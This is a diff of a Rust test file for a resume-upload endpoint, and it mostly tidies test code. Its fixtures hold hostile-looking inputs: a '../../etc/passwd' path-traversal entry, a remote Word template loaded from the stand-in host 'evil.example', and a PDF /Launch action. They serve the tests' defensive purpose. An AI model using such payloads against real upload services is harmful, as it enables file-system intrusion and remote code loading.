@@ -19,15 +19,12 @@ async fn f1_f2_f3_only_documents_that_are_what_their_name_says() {
         ("cv.docx", docx(&[Entry::new("../../etc/passwd", "x")])),
         ("cv.doc", compound(&["/Workbook"])),
     ];
+    let doc = compound(&["/WordDocument", "/1Table"]);
     let accepted: Vec<(&str, Vec<u8>, &str)> = vec![
         ("cv.pdf", pdf(500), "application/pdf"),
         ("CV.PDF", pdf(500), "application/pdf"),
         ("cv.docx", docx(&[]), DOCX),
-        (
-            "cv.doc",
-            compound(&["/WordDocument", "/1Table"]),
-            "application/msword",
-        ),
+        ("cv.doc", doc, "application/msword"),
     ];
     for target in both().await {
         for (name, bytes) in &refused {
@@ -49,11 +46,10 @@ async fn f1_f2_f3_only_documents_that_are_what_their_name_says() {
 
 #[tokio::test]
 async fn f2_what_a_resume_never_needs_is_refused_and_the_visitor_is_told_why() {
-    let template = relationships(&[(
-        "attachedTemplate",
-        "https://evil.example/t.dotm",
-        r#"TargetMode="External""#,
-    )]);
+    let (target, mode) = ("https://evil.example/t.dotm", r#"TargetMode="External""#);
+    let template = relationships(&[("attachedTemplate", target, mode)]);
+    let template = Entry::new("word/_rels/settings.xml.rels", template);
+    let object = Entry::new("word/embeddings/oleObject1.bin", "x");
     let program = "%PDF-1.4\n1 0 obj << /OpenAction << /S /Launch /F (x) >> >> endobj\n%%EOF";
     let encrypted = "%PDF-1.4\ntrailer << /Encrypt 1 0 R >>\n%%EOF";
     let cases: Vec<(&str, Vec<u8>, &str)> = vec![
@@ -64,12 +60,12 @@ async fn f2_what_a_resume_never_needs_is_refused_and_the_visitor_is_told_why() {
         ),
         (
             "cv.docx",
-            docx(&[Entry::new("word/embeddings/oleObject1.bin", "x")]),
+            docx(&[object]),
             "This one has another file inside: remove it, or print the document to a new PDF and upload that.",
         ),
         (
             "cv.docx",
-            docx(&[Entry::new("word/_rels/settings.xml.rels", template)]),
+            docx(&[template]),
             "This one loads something from elsewhere or opens a web page by itself: print it to a new PDF and upload that.",
         ),
         (
@@ -108,19 +104,13 @@ async fn f4_nothing_of_a_file_name_reaches_the_key_and_only_harmless_parts_are_k
         for (name, kept) in cases {
             let reply = target.send(career(name, &pdf(200))).await;
             assert_eq!(reply.status, 200, "{name}: {reply:?}");
-            let keys = target.keys("").await;
-            assert!(
-                !keys
-                    .iter()
-                    .any(|key| key.contains("canary") || key.contains("nnn")),
-                "{keys:?}"
-            );
+            for key in target.keys("").await {
+                assert!(!key.contains("canary") && !key.contains("nnn"), "{key}");
+            }
             let record = target.record_of(&reply).await;
             let stored = record["document"]["name"].as_str().unwrap();
-            assert!(
-                stored.ends_with(kept) && stored.chars().count() <= 100,
-                "{stored:?}"
-            );
+            assert!(stored.ends_with(kept), "{stored:?}");
+            assert!(stored.chars().count() <= 100, "{stored:?}");
         }
     }
 }
@@ -129,7 +119,7 @@ async fn f4_nothing_of_a_file_name_reaches_the_key_and_only_harmless_parts_are_k
 async fn f5_a_resume_is_stored_as_an_encrypted_attachment_of_its_own_type() {
     let [_, lambda] = both().await;
     let (_, bucket) = lambda.function().unwrap();
-    assert_eq!(lambda.send(career("cv.pdf", &pdf(200))).await.status, 200);
+    lambda.accept(career("cv.pdf", &pdf(200))).await;
     let key = &lambda.keys("resumes/").await[0];
     let object = crate::support::moto::request("s3", "GET", &format!("/{bucket}/{key}"), "").await;
     assert_eq!(object.header("content-type"), "application/pdf");
@@ -148,8 +138,7 @@ async fn f6_a_scan_holds_up_no_visitor() {
     .concat();
     let document = ["%PDF-1.4\n", &eicar, "\n%%EOF\n"].concat();
     for target in both().await {
-        let reply = target.send(career("cv.pdf", document.as_bytes())).await;
-        assert_eq!(reply.status, 200, "{reply:?}");
+        target.accept(career("cv.pdf", document.as_bytes())).await;
         let key = &target.keys("resumes/").await[0];
         assert_eq!(target.scanned(key).await, None);
     }
@@ -160,14 +149,11 @@ async fn f6_no_resume_and_an_empty_file_field_say_so() {
     let fields = valid("career");
     for target in both().await {
         for file in [None, Some(("", &b""[..]))] {
-            let reply = target
-                .send(Request::multipart("/career", &fields, file))
-                .await;
+            let request = Request::multipart("/career", &fields, file);
+            let reply = target.send(request).await;
             assert_eq!(reply.status, 422, "{reply:?}");
-            assert_eq!(
-                reply.json()["errors"],
-                json!({ "resume": "Please upload your resume (max 2 MB)." })
-            );
+            let errors = json!({ "resume": "Please upload your resume (max 2 MB)." });
+            assert_eq!(reply.json()["errors"], errors);
         }
         target.assert_untouched().await;
     }
